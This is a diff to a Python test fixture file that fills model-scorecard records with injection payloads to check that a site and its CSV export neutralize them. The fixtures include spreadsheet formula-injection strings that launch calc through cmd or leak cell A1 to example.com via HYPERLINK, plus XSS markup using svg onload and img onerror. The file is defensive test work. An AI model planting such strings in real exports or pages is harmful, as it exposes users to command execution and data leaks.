@@ -72,13 +72,15 @@ URL_PAYLOADS: list[str] = [
 # Cells that a spreadsheet would run as formulas if the CSV export did not neutralize them.
 FORMULA_NAME = '=HYPERLINK("https://example.com/?leak="&A1,"Click for details")'
 FORMULA_DEVELOPER = "+1+cmd|' /C calc'!A0"
-FORMULA_REVIEWER = "@SUM(1+1)*cmd|' /C calc'!A0"
 FORMULA_NAME_2 = "-2+3+cmd|' /C calc'!A0"
 FORMULA_DEVELOPER_2 = "\t=1+1"
-FORMULA_REVIEWER_2 = "\r=1+1"
+FORMULA_DEVELOPER_3 = "\r=1+1"
+# A reviewer is a GitHub handle (the schema refuses anything else, tests/test_claim_checks.py), so no payload
+# reaches the site through reviewed_by; the fixtures name one real-looking handle.
+REVIEWER = "@xss-reviewer"
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
-SHORT_MAX = 200  # name, developer, flagship_model, base_model, locator, by, reviewed_by
+SHORT_MAX = 200  # name, developer, flagship_model, base_model, locator, by, searched title
 ASSESSED = dt.date(2025, 6, 15)
 EARLIER = dt.date(2025, 1, 15)
 
@@ -106,7 +108,7 @@ def _evidence(url: str, text: str, locator: str | None) -> dict[str, Any]:
     return item
 
 
-def _card(subject: dict[str, Any], text: str, *, by: str, reviewer: str, locator: str | None) -> dict[str, Any]:
+def _card(subject: dict[str, Any], text: str, *, by: str, locator: str | None) -> dict[str, Any]:
     """A scorecard with `text` in the assessment-level fields and two assessments (for the changes page)."""
     return {
         "schema_version": 1,
@@ -120,6 +122,7 @@ def _card(subject: dict[str, Any], text: str, *, by: str, reviewer: str, locator
                 "indicators": {
                     "license": {
                         "status": "not-disclosed",
+                        "searched": [{"url": url, "title": text} for url in URL_PAYLOADS],
                         "note": text,
                         "provenance": {"source": "collector", "by": by},
                     },
@@ -135,7 +138,7 @@ def _card(subject: dict[str, Any], text: str, *, by: str, reviewer: str, locator
                         "status": "disclosed",
                         "evidence": [_evidence(url, text, locator) for url in URL_PAYLOADS],
                         "note": text,
-                        "provenance": {"source": "person", "by": by, "reviewed_by": reviewer, "reviewed_on": ASSESSED},
+                        "provenance": {"source": "person", "by": by, "reviewed_by": REVIEWER, "reviewed_on": ASSESSED},
                     },
                     "model-size": {
                         "status": "partial",
@@ -145,11 +148,12 @@ def _card(subject: dict[str, Any], text: str, *, by: str, reviewer: str, locator
                     },
                     "training-data-size": {
                         "status": "not-disclosed",
+                        "searched": [{"url": URL_PAYLOADS[-1], "title": text}],
                         "note": text,
                         "provenance": {
                             "source": "collector",
                             "by": by,
-                            "reviewed_by": reviewer,
+                            "reviewed_by": REVIEWER,
                             "reviewed_on": ASSESSED,
                         },
                     },
@@ -189,18 +193,17 @@ def scorecards() -> dict[str, dict[str, Any]]:
             "description": text,
             "links": _links(),
         }
-        cards[subject_id] = _card(subject, text, by=text, reviewer=text, locator=text)
+        cards[subject_id] = _card(subject, text, by=text, locator=text)
     formula_cards = [
-        ("xss-csv-1", FORMULA_NAME, FORMULA_DEVELOPER, FORMULA_REVIEWER, 'xss-org/"><svg/onload=window.__xss=true>'),
+        ("xss-csv-1", FORMULA_NAME, FORMULA_DEVELOPER, 'xss-org/"><svg/onload=window.__xss=true>'),
         (
             "xss-csv-2",
             FORMULA_NAME_2,
-            FORMULA_DEVELOPER_2,
-            FORMULA_REVIEWER_2,
+            FORMULA_DEVELOPER_2 + FORMULA_DEVELOPER_3,
             "xss-org/'><img/src=x/onerror=window.__xss=true>",
         ),
     ]
-    for subject_id, name, developer, reviewer, base_model in formula_cards:
+    for subject_id, name, developer, base_model in formula_cards:
         subject = {
             "id": subject_id,
             "name": name,
@@ -211,7 +214,7 @@ def scorecards() -> dict[str, dict[str, Any]]:
             "description": name,
             "links": _links(),
         }
-        cards[subject_id] = _card(subject, name, by=name, reviewer=reviewer, locator=None)
+        cards[subject_id] = _card(subject, name, by=name, locator=None)
     return cards
 
 
